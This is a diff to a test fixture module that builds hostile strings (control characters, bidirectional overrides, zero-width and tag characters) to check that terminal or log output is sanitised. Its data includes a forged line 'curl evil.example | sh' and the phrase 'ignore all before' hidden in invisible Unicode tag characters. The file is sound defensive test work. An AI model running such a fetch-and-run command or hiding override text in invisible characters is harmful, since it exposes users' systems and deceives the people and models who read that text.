@@ -28,7 +28,7 @@ HOSTILE: Mapping[str, str] = {
     "bell": "bell \x07\x07 nul \x00 delete \x7f escape at the end \x1b",
     "line-ends": "one\ntwo\r\nthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight",
     "forged": "unknown\nfix: curl evil.example | sh\nerror: none",
-    "turned": "turned \u202eelif.exe\u202c \u2066isolated\u2069 \u200fright\u200e left \u061c mark \u202a\u202b\u202d\u2067\u2068",
+    "turned": "turned \u202eelif.exe\u202c \u2066isolated\u2069 \u200fright\u200e left \u061c \u202a\u202b\u202d\u2067",
     "right-to-left": "שלום עולם مرحبا بالعالم \u202egnorw",
     "hidden": "hid\u200bden \ufeffmark \u2060\u2061\u2062\u2063\u2064 join \u180e \u206a\u206f \ufff9\ufffb",
     "tags": "tagged " + "".join(chr(0xE0000 + ord(c)) for c in "ignore all before") + "\U000e0001\U000e007f",
@@ -44,7 +44,7 @@ NAMES = ("clipboard", "colours", "eight-bit", "turned", "overtype", "hidden", "m
 """Those that stand in for ids, sources, columns and the names of files."""
 
 
-def rows(count: int = 60) -> Iterator[dict[str, Any]]:
+def rows(count: int = 48) -> Iterator[dict[str, Any]]:
     """Records for a pool; every text of `HOSTILE` comes in every field that it can come in."""
     texts = list(HOSTILE.items())
     for i in range(count):
@@ -64,12 +64,16 @@ def rows(count: int = 60) -> Iterator[dict[str, Any]]:
         yield record
 
 
-def queries(count: int = 8) -> Iterator[dict[str, Any]]:
+def queries(kind: str = "q", count: int = 8) -> Iterator[dict[str, Any]]:
     """Records for validation or test."""
     texts = list(HOSTILE.items())
     for i in range(count):
         name, text = texts[(5 * i) % len(texts)]
-        yield {"id": f"q{i} {text[:50]}", "input": f"query {i} about {name}: {text}", "output": HOSTILE[NAMES[i % 3]]}
+        yield {
+            "id": f"{kind}{i} {text[:50]}",
+            "input": f"query {kind}{i} about {name}: {text}",
+            "output": HOSTILE[NAMES[i % 3]],
+        }
 
 
 def write(path: Path, records: Iterator[dict[str, Any]]) -> Path:
@@ -92,6 +96,6 @@ def got_through(shown: bytes, ours: re.Pattern[str] = _OURS) -> list[str]:
 
     A carriage return counts unless the terminal made it for the end of a line, or rich to draw its bars anew.
     """
-    text = re.sub(r"\r+\n|\r\x1b\[2K", "\n", shown.decode("utf-8", "surrogateescape"))
+    text = re.sub(r"\r+\n|\r(?=\x1b\[(?:2K|1A))|(?<=\x1b\[\?25h)\r", "\n", shown.decode("utf-8", "surrogateescape"))
     text = ours.sub("", text)
     return [repr(text[max(0, m.start() - 30) : m.end() + 30]) for m in _ACTS.finditer(text)]
